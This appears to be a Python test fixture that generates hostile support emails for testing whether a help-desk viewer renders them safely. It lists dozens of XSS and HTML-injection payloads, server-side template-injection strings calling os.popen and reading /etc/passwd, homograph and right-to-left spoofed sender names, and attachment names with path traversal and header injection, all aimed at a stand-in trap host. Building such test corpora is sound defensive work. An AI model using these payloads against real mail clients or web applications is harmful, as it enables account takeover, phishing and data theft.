"""Mails that try to run something, fetch something or pass for something in whoever shows them.

Every one calls ``tripped()`` or fetches from ``TRAP`` if it gets its way.
"""

from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from email.policy import SMTP

TRAP = "http://trap.example"
RUN = "window.__tripped=1"
ANGRY = "This is a disgrace. I want to talk to your manager today."

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src='{TRAP}/a.js'></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='{TRAP}/pixel.png'>",
    f"<img srcset='{TRAP}/1.png 1x, {TRAP}/2.png 2x'>",
    f"<picture><source srcset='{TRAP}/s.png'><img></picture>",
    f"<svg onload='{RUN}'><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='{TRAP}/u.svg#x'/><image href='{TRAP}/i.png'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></svg>",
    f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<style>@import '{TRAP}/s.css'; body{{background:url({TRAP}/b.png)}}</style>",
    f"<div style='background:url({TRAP}/d.png);width:expression({RUN})'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>covers the page</div>",
    f"<link rel=stylesheet href='{TRAP}/l.css'><link rel=prefetch href='{TRAP}/p'>",
    f"<link rel=dns-prefetch href='//trap.example'><base href='{TRAP}/'>",
    f"<a href='javascript:{RUN}' id=go>click</a>",
    f"<a href=' java\nscript:{RUN}'>split</a><a href='&#106;avascript:{RUN}'>coded</a>",
    f"<a href='data:text/html,<script>opener.{RUN}</script>'>data</a>",
    f"<a href='vbscript:{RUN}'>vb</a><a href='{TRAP}/phish' target=_top>your bank</a>",
    f"<iframe src='{TRAP}/f'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{TRAP}/o.swf'></object><embed src='{TRAP}/e.swf'>",
    f"<video autoplay src='{TRAP}/v.mp4' poster='{TRAP}/v.png' onloadstart='{RUN}'></video>",
    f"<audio autoplay src='{TRAP}/a.mp3' onerror='{RUN}'></audio>",
    f"<meta http-equiv=refresh content='0;url={TRAP}/m'><meta http-equiv=Set-Cookie content=a>",
    f"<form action='{TRAP}/form' id=f><input name=password autofocus onfocus='{RUN}'></form>",
    f"<button form=f formaction='javascript:{RUN}'>press</button>",
    f"<input type=image src='{TRAP}/t.png'>",
    "<form action='/sign-out' method=post><button>Acknowledge</button></form>",
    f"<body onload='{RUN}' background='{TRAP}/bg.png'><table background='{TRAP}/tb.png'>",
    f"<details open ontoggle='{RUN}'><summary>more</summary></details>",
    f"<div hx-get='{TRAP}/hx' hx-trigger='load'>hx</div>",
    "<div hx-post='/sign-out' hx-trigger='load, every 1s' hx-target='body'>hx</div>",
    f"<div data-hx-get='/cases/1001' data-hx-trigger='load' hx-on:htmx:load='{RUN}'>hx</div>",
    f"<div hx-vals='js:{{a:{RUN}}}' hx-get='/' hx-trigger=load>hx</div>",
    f"<div hx-ext='sse' sse-connect='{TRAP}/sse' sse-swap=x>sse</div>",
    f"<div id=live data-page=case autofocus tabindex=1 onfocus='{RUN}'>clobbers</div>",
    "<img name=body id=document><form id=cookie><input name=attributes></form>",
    f"<template><script>{RUN}</script></template><slot onslotchange='{RUN}'></slot>",
    f"<x-y onpointerrawupdate='{RUN}' style='animation:x' onanimationstart='{RUN}'>own</x-y>",
    f"</pre></div></article></main><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"\"'><img src=x onerror={RUN}>",
    f"</title></textarea></style></script><script>{RUN}</script>",
    "{{ cycler.__init__.__globals__.os.popen('id') }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "\ufeff<scr\0ipt>window.__tripped=1</scr\0ipt>",
    "+ADw-script+AD4-window.__tripped=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.__tripped=1\uff1c/script\uff1e",
)

NAMES = (
    "\u202eevil\u202c\u2066\u2067",
    "P\u0430t P\u043eint",
    "Pat Point <pat@desk.example>",
    "a\u0300" * 60,
    "\u200b\u200d\ufeff",
    "\U000e0041\U000e0042 tags",
    f'"><img src=x onerror={RUN}>',
    f"<script>{RUN}</script>",
    "T-1001 Closed by Triage",
)
"""Right to left, homographs, somebody of the desk, heaps, nothing, markup, words of ours."""

FILES = (
    ("page.html", "text/html", f"<script>{RUN}</script>"),
    ("picture.svg", "image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"),
    ("invoice\u202efdp.exe", "application/octet-stream", "MZ"),
    ("../../etc/passwd", "text/plain", "root"),
    ('x";filename="y.html', "text/html", f"<script>{RUN}</script>"),
    (f"<img src=x onerror={RUN}>.txt", "text/xml", "<?xml version='1.0'?><x/>"),
    ("a\r\nSet-Cookie: b=c.txt", "text/javascript", RUN),
)
"""Name, type and content of attachments."""


@dataclass(frozen=True, slots=True)
class HostileMail:
    what: str
    content: bytes


def hostile_mails() -> list[HostileMail]:
    """Every trick in the text, in the HTML, and in the headers of a mail."""
    made = [_mail(number, "\n".join(some)) for number, some in enumerate(_fours())]
    made += [_mail(100 + number, "plain", name=name) for number, name in enumerate(NAMES)]
    made.append(_mail(200, "files", files=FILES))
    made.append(_mail(201, "<div>" * 300 + MARKUP[2]))
    made.append(_mail(202, " ".join(MARKUP)))
    return made


def _fours() -> Iterator[tuple[str, ...]]:
    """Four tricks a mail: a page takes a browser longer than a trick takes a page."""
    for at in range(0, len(MARKUP), 4):
        yield MARKUP[at : at + 4]


def _mail(
    number: int, markup: str, name: str = "Dana", files: tuple[tuple[str, str, str], ...] = ()
) -> HostileMail:
    message = EmailMessage(policy=SMTP)
    message["To"] = "support@desk.example"
    message["Message-ID"] = f"<hostile-{number}@customer.example>"
    message.set_content(f"{ANGRY}\n\n{markup}\n", charset="utf-8", cte="base64")
    html = f"<p>{ANGRY}</p>\n{markup}\n"
    message.add_alternative(html, subtype="html", charset="utf-8", cte="base64")
    for at, (_, kind, said) in enumerate(files):
        major, minor = kind.split("/")
        message.add_attachment(said.encode(), major, minor, filename=f"FILE{at}")
    content = message.as_bytes()
    for at, (file, _, _) in enumerate(files):
        coded = "".join(f"%{byte:02X}" for byte in file.encode())
        content = content.replace(
            f'filename="FILE{at}"'.encode(), f"filename*=utf-8''{coded}".encode()
        )
    head = (
        f"From: {_coded(name)} <customer-{number}@customer.example>\r\n"
        f"Subject: {_coded(markup[:150])}\r\n"
    )
    return HostileMail(markup[:60], head.encode() + content)


def _coded(text: str) -> str:
    """As an encoded word, by which headers hold anything: line breaks and nulls too."""
    return f"=?utf-8?b?{b64encode(text.encode()).decode()}?="
